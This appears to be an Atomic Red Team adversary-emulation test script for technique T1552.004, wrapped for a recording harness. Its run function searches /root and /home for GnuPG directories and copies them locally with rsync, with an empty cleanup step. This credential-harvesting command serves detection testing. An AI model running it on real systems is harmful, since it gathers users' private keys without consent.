#!/usr/bin/env bash
# Atomic Red Team T1552.004-7: Copy the users GnuPG directory with rsync
# atomic GUID 2a5a0601-f5fb-4e2e-aa09-73282ae6afca; technique T1552.004
# record.sh runs `case.sh run DIR` under the agent (recorded), then `case.sh cleanup DIR`.
W="${2:?usage: $0 run|cleanup DIR}"
cd "$W" || exit 1
run() {
    mkdir "$W/GnuPG"
    find /root /home -type d -name '.gnupg' 2>/dev/null -exec rsync -Rr {} "$W/GnuPG" \;
}
cleanup() {
    :
}
"$1"
